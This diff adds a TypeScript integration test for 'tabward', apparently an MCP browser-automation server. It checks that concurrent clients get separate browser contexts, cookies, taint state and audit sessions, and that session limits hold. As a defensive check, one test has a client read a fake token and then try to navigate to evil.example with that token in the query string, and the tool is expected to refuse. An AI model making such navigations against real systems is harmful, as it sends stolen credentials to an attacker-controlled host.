@@ -1,0 +1,227 @@
+// Several agents at once over `tabward mcp --http` (issue 36): each MCP session is a client with a world of its own
+// in one shared browser process — its own browser context (cookies, storage, tabs), its own taint, and its own audit
+// session — and a client that leaves (its DELETE, or just gone) leaves no context behind. A slow page in one
+// client's tab does not hold another's calls; past --max-sessions an initialize is refused with what to do.
+// The real CLI, the real SDK client over Streamable HTTP, real Chromium; every host name maps to the fixtures.
+
+import assert from 'node:assert/strict';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
+import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
+import { callThrough } from '../helpers/mcpClient.ts';
+import { initializeBody, postMcp } from '../helpers/rawMcp.ts';
+import { type RunningTabward, startTabward } from '../helpers/tabwardProcess.ts';
+import { waitFor } from '../helpers/waitFor.ts';
+
+const secret = 'ghp_clientA_only_7731';
+
+describe('several MCP clients, each in a world of its own', { timeout: 240_000 }, () => {
+  let site: Fixture;
+  let tabward: RunningTabward;
+  let home = '';
+  let mcpUrl = '';
+  let token = '';
+  /** Released by the test: the slow page's answer. */
+  let releaseSlow: () => void = () => undefined;
+  const open: Client[] = [];
+
+  before(async () => {
+    site = await startFixture(
+      {
+        '/login': (_req, _body, res) =>
+          html(res, '<title>Signed in</title><p>Signed in as A</p>', 200, {
+            'set-cookie': 'who=client-a; Path=/',
+          }),
+        '/whoami': (req, _body, res) =>
+          html(res, `<title>Who</title><p>cookie: [${req.headers.cookie ?? 'none'}]</p>`),
+        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${secret}</p>`),
+        // Not itself sensitive: it brings the token page's content onto itself (a sensitive read, which taints).
+        '/repo': (_req, _body, res) =>
+          html(
+            res,
+            `<title>Repo</title><p id="out">loading</p><script>fetch('/settings/tokens').then((r) => r.text()).then((t) => { out.textContent = t.replace(/<[^>]+>/g, ' '); })</script>`,
+          ),
+        '/fast': (_req, _body, res) => html(res, '<title>Fast</title><p>Quick page</p><button>Go</button>'),
+        '/slow': (_req, _body, res) => {
+          releaseSlow = () => {
+            if (!res.headersSent) html(res, '<title>Slow</title><p>At last</p>');
+          };
+        },
+        '/collect': (_req, _body, res) => html(res, '<title>Collected</title><p>ok</p>'),
+      },
+      // github.com is on Chromium's HSTS preload list: its pages come over TLS.
+      { tls: true },
+    );
+    home = mkdtempSync(join(tmpdir(), 'tabward-clients-'));
+    tabward = await startTabward(
+      [
+        'mcp',
+        '--mode',
+        'isolated',
+        '--http',
+        '0',
+        '--approval',
+        'deny',
+        '--max-sessions',
+        '3',
+        '--session-idle',
+        '2',
+        ...testChromeArgs.flatMap((arg) => ['--chrome-arg', arg]),
+      ],
+      /new bearer token for MCP over HTTP.*: \S+\n/,
+      { home },
+    );
+    mcpUrl = /MCP over Streamable HTTP at (\S+)/.exec(tabward.output())?.[1] ?? '';
+    token = /new bearer token for MCP over HTTP.*: (\S+)\n/.exec(tabward.output())?.[1] ?? '';
+  });
+  after(async () => {
+    releaseSlow();
+    await Promise.all(open.map((client) => client.close().catch(() => undefined)));
+    const exited = new Promise((resolve) => tabward?.child.once('exit', resolve));
+    tabward?.child.kill('SIGTERM');
+    if (tabward?.child.exitCode === null)
+      await Promise.race([exited, new Promise((done) => setTimeout(done, 10_000))]);
+    await site?.close();
+    rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
+  });
+
+  const connect = async () => {
+    const client = new Client({ name: 'several-clients-test', version: '1' });
+    const transport = new StreamableHTTPClientTransport(new URL(mcpUrl), {
+      requestInit: { headers: { Authorization: `Bearer ${token}` } },
+    });
+    await client.connect(transport);
+    open.push(client);
+    return { client, transport };
+  };
+  const call = (client: Client, name: string, args: Record<string, unknown> = {}) =>
+    callThrough(client, name, args, 60_000);
+  /** A new tab at `url`, and what it shows. */
+  const openAndRead = async (client: Client, url: string) => {
+    const opened = await call(client, 'new_page', { url });
+    if (opened.isError) return opened;
+    return call(client, 'take_snapshot');
+  };
+  const contextsSeenBy = async (client: Client) => {
+    const status = (await call(client, 'browser_status')).text;
+    return Number(/(\d+) client context\(s\) in this browser/.exec(status)?.[1] ?? -1);
+  };
+
+  test("two clients see and touch only their own tabs and cookies, and one's taint is not the other's", async () => {
+    const a = await connect();
+    const b = await connect();
+    const signedIn = await openAndRead(a.client, site.url('app.example', '/login'));
+    assert.match(signedIn.text, /Signed in as A/);
+
+    // B's tabs are its own: A's tab is not listed, and B's first tab is a new one, not A's.
+    const listed = await call(b.client, 'list_pages');
+    assert.doesNotMatch(listed.text, /app\.example/, listed.text);
+    const whoB = await openAndRead(b.client, site.url('app.example', '/whoami'));
+    assert.match(whoB.text, /cookie: \[none\]/, "B's context has none of A's cookies");
+    const whoA = await call(a.client, 'navigate_page', {
+      url: site.url('app.example', '/whoami'),
+      snapshot: true,
+    });
+    assert.match(whoA.text, /cookie: \[who=client-a\]/);
+    const statusB = (await call(b.client, 'browser_status')).text;
+    assert.match(statusB, /context: this client's own/);
+    assert.doesNotMatch(statusB, /\/login|who=client-a/);
+
+    // A reads a sensitive page: A's session is tainted, B's is not.
+    assert.match(
+      (
+        await call(a.client, 'navigate_page', {
+          url: site.url('github.com', '/repo'),
+          snapshot: true,
+        })
+      ).text,
+      new RegExp(secret),
+    );
+    const sentBefore = site.seen.filter((seen) => seen.path.startsWith('/collect')).length;
+    const fromA = await call(a.client, 'navigate_page', {
+      url: site.url('evil.example', `/collect?t=${secret}`),
+    });
+    assert.equal(fromA.isError, true, `A's tainted navigation is refused: ${fromA.text}`);
+    const fromB = await call(b.client, 'navigate_page', { url: site.url('evil.example', '/collect?t=b') });
+    assert.equal(fromB.isError, false, `B is not tainted by A's read: ${fromB.text}`);
+    const sent = site.seen.filter((seen) => seen.path.startsWith('/collect')).slice(sentBefore);
+    assert.deepEqual(
+      sent.map((seen) => seen.path),
+      ['/collect?t=b'],
+      'only B reached evil.example; nothing carried A secret',
+    );
+
+    // Each client's calls are on the audit record under a session of its own.
+    const records = readFileSync(join(home, 'audit.jsonl'), 'utf8')
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as { session?: string; tool?: string; args?: { url?: string } });
+    const sessionOf = (path: string) =>
+      new Set(records.filter((record) => record.args?.url?.includes(path)).map((record) => record.session));
+    const [sessionA] = [...sessionOf('/login')];
+    const [sessionB] = [...sessionOf('/collect?t=b')];
+    assert.ok(sessionA && sessionB && sessionA !== sessionB, `${sessionA} vs ${sessionB}`);
+    assert.deepEqual([...sessionOf('/repo')], [sessionA]);
+    await b.transport.terminateSession();
+    await b.client.close();
+    await a.transport.terminateSession();
+    await a.client.close();
+  });
+
+  test("a slow page in one client's tab does not hold another client's calls", async () => {
+    const slow = await connect();
+    const quick = await connect();
+    let slowDone = false;
+    const slowCall = call(slow.client, 'new_page', { url: site.url('slow.example', '/slow') }).finally(() => {
+      slowDone = true;
+    });
+    await waitFor('the slow page requested', () => site.seen.some((seen) => seen.path === '/slow'));
+    const fast = await openAndRead(quick.client, site.url('fast.example', '/fast'));
+    assert.match(fast.text, /Quick page/);
+    assert.match(fast.text, /Go/);
+    assert.equal(slowDone, false, "the quick client's calls finished while the slow one still waited");
+    releaseSlow();
+    assert.match((await slowCall).text, /At last|Slow/);
+    for (const each of [slow, quick]) {
+      await each.transport.terminateSession();
+      await each.client.close();
+    }
+  });
+
+  test('a client that leaves leaves no context behind; past --max-sessions an initialize is refused', async () => {
+    const watcher = await connect();
+    await call(watcher.client, 'new_page', { url: site.url('app.example', '/fast') });
+    assert.equal(await contextsSeenBy(watcher.client), 1, 'ended sessions left no context');
+    const leaving = await connect();
+    await call(leaving.client, 'new_page', { url: site.url('app.example', '/fast') });
+    const third = await connect();
+    await call(third.client, 'new_page', { url: site.url('app.example', '/fast') });
+    assert.equal(await contextsSeenBy(watcher.client), 3);
+
+    const refused = await postMcp(mcpUrl, token, initializeBody());
+    assert.equal(refused.status, 503);
+    assert.match(await refused.text(), /at most 3 MCP sessions at once \(--max-sessions\)/);
+
+    // Ended with a DELETE: its context goes at once.
+    await third.transport.terminateSession();
+    await third.client.close();
+    await waitFor(
+      'the ended session closed its context',
+      async () => (await contextsSeenBy(watcher.client)) === 2,
+    );
+    // Gone without a word (no DELETE): its event stream closed, so it is closed after --session-idle.
+    await leaving.client.close();
+    await waitFor(
+      'the gone client closed its context',
+      async () => (await contextsSeenBy(watcher.client)) === 1,
+      { timeoutMs: 30_000 },
+    );
+    const admitted = await postMcp(mcpUrl, token, initializeBody());
+    assert.equal(admitted.status, 200, 'a place is free again');
+    await admitted.text();
+  });
+});
